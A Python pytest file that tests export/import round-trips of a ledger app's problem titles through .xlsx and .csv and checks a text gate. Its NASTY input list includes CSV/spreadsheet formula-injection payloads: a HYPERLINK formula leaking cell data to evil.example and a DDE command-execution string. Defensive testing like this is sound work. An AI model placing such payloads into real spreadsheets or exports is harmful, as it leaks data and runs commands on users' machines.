"""Export → import is the identity on titles and descriptions, whatever the text gate lets in: nasty ones listed
by hand and ones hypothesis makes up, through .xlsx and .csv, into an empty database. What the gate refuses is
refused alike when logged and when imported. And an export never fails on a control character that older rows
may hold: it shows U+FFFD in the workbook instead."""

from __future__ import annotations

import csv
import itertools

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from models.db import session
from models.tables import Problem
from reports.cells import xlsx_legal
from reports.importer import import_ledger
from reports.ledger_export import export_ledger
from reports.xlsx_stream import Workbook
from service.ledger import LedgerQuery
from tests import backends
from tests.reports.conftest import County, seed_directory
from tests.security.hostile import PROJECT
from workflow.errors import InvalidValue
from workflow.text import TextKind, clean

pytestmark = pytest.mark.integration

NASTY = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "'",
    "'=1+1",
    "''双引号",
    "#N/A",
    "#REF!",
    "TRUE",
    "1",
    "1.0",
    "2024-02-19",
    "_x000D_",
    "_x005F_x000D_",
    "a_x0041_b",
    "第一行\r\n第二行",
    "回车\r制表\t换行\n",
    "\u202e逆序\u202c",
    "零\u200b宽",
    "👨\u200d👩\u200d👧 家庭",
    "\x7f\x85\x9b",
    "全角１２３",
    "\ufeffBOM",
    "𠮷野家",
    "\ue000私用区",
]
_counter = itertools.count()


def _accepted(text: str, kind: TextKind) -> bool:
    try:
        clean(text, field="title", label="问题标题", kind=kind)
    except InvalidValue:
        return False
    return True


ACCEPTED = [t for t in NASTY if _accepted(t, TextKind.TITLE)]
REFUSED = [t for t in NASTY if not _accepted(t, TextKind.TITLE)]


def _county(kind: str, factory, rules) -> County:
    """A database of ``kind`` with the county's units, people and projects, and no problems."""
    folder = factory.mktemp("county")
    county = County(backends.new_database_url(kind, folder), rules, "2024-01-20")
    seed_directory(county.engine)
    return county


def _texts(county: County) -> dict[str, tuple[str, str]]:
    p = Problem.__table__
    with session(county.engine) as s:
        return {code: (t, d) for code, t, d in s.execute(sa.select(p.c.code, p.c.title, p.c.description))}


def _round_trip(kind: str, factory, rules, titles: list[str], descriptions: list[str]) -> None:
    source = _county(kind, factory, rules)
    for title, description in zip(titles, descriptions):
        source.service.log("admin", PROJECT, "land", title, description=description)
    expected = _texts(source)
    folder = factory.mktemp("files")
    for suffix in (".xlsx", ".csv"):
        path = folder / f"ledger{next(_counter)}{suffix}"
        export_ledger(source.engine, rules, source.clock.now, path, LedgerQuery(sort="code"), "admin")
        target = _county(kind, factory, rules)
        report = import_ledger(target.engine, rules, source.clock.now, "admin", path)
        assert report.ok, [i.line() for i in report.issues]
        assert _texts(target) == expected, suffix
        target.engine.dispose()
    source.engine.dispose()


@pytest.mark.parametrize("kind", backends.BACKENDS)
def test_nasty_titles_round_trip(kind, tmp_path_factory, rules):
    descriptions = [t for t in reversed(NASTY) if _accepted(t, TextKind.TEXT)][: len(ACCEPTED)]
    _round_trip(kind, tmp_path_factory, rules, ACCEPTED, descriptions)


def test_the_gate_refuses_the_rest_when_logged_and_when_imported(tmp_path_factory, rules):
    assert len(ACCEPTED) >= 15 and len(REFUSED) >= 6  # both halves of the list are exercised
    county = _county("sqlite", tmp_path_factory, rules)
    for title in REFUSED:
        with pytest.raises(InvalidValue) as info:
            county.service.log("admin", PROJECT, "land", title)
        assert info.value.field == "title"
    path = tmp_path_factory.mktemp("in") / "refused.csv"
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows([["项目名称", "问题名称", "问题类型"], *([PROJECT, t, "土地"] for t in REFUSED)])
    report = import_ledger(county.engine, rules, county.clock.now, "admin", path)
    assert not report.ok and {i.row for i in report.issues} == set(range(2, 2 + len(REFUSED)))
    assert _texts(county) == {}
    county.engine.dispose()


# What a title may hold: any character the text gate lets in (no controls, format characters, separators or
# noncharacters). Characters XML cannot carry are covered by the last test.
CHARS = st.characters(blacklist_categories=("Cs", "Cc", "Cf", "Zl", "Zp", "Cn")).filter(
    lambda ch: xlsx_legal(ch) == ch and _accepted(ch, TextKind.TITLE)
)
PREFIXES = st.sampled_from(["", "=", "+", "-", "@", "'", "''", "#", "_x000D_", "\t", "\r"])
TITLE = (
    st.tuples(PREFIXES, st.text(CHARS, min_size=1, max_size=30))
    .map("".join)
    .filter(lambda t: _accepted(t, TextKind.TITLE) and clean(t, field="t", label="t", kind=TextKind.TITLE) != "")
)
DESCRIPTION = (
    st.tuples(PREFIXES, st.text(CHARS, max_size=80)).map("".join).filter(lambda t: _accepted(t, TextKind.TEXT))
)


@settings(
    max_examples=5, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(
    st.lists(
        st.tuples(TITLE, DESCRIPTION),
        min_size=1,
        max_size=12,
        unique_by=lambda td: clean(td[0], field="t", label="t", kind=TextKind.TITLE),
    )
)
def test_generated_titles_round_trip(tmp_path_factory, rules, pairs):
    _round_trip("sqlite", tmp_path_factory, rules, [t for t, _ in pairs], [d for _, d in pairs])


@pytest.mark.parametrize("kind", backends.BACKENDS)
def test_control_characters_in_old_rows_do_not_break_the_export(kind, tmp_path_factory, rules):
    county = _county(kind, tmp_path_factory, rules)
    code = county.service.log("admin", PROJECT, "land", "旧数据", description="说明").code
    with county.engine.begin() as conn:  # as rows stored before the text gate existed
        conn.execute(
            sa.update(Problem.__table__)
            .where(Problem.__table__.c.code == code)
            .values(title="旧\x1b[31m数据\x01", description="说明\x08\x0b\x0c结束")
        )
    folder = tmp_path_factory.mktemp("out")
    export_ledger(county.engine, rules, county.clock.now, folder / "l.xlsx", LedgerQuery(sort="code"), "admin")
    with Workbook(folder / "l.xlsx") as wb:
        rows = [values for _, values in wb.rows(wb.sheets[0])]
    row = next(r for r in rows if len(r) > 1 and r[1] == code)
    assert row[3] == "旧\ufffd[31m数据\ufffd" and row[7] == "说明\ufffd\ufffd\ufffd结束"
    export_ledger(county.engine, rules, county.clock.now, folder / "l.csv", LedgerQuery(sort="code"), "admin")
    with (folder / "l.csv").open(encoding="utf-8-sig", newline="") as f:
        record = next(r for r in csv.reader(f) if r[1] == code)
    assert record[3] == "旧\x1b[31m数据\x01"  # CSV carries any character: kept as stored
    county.engine.dispose()
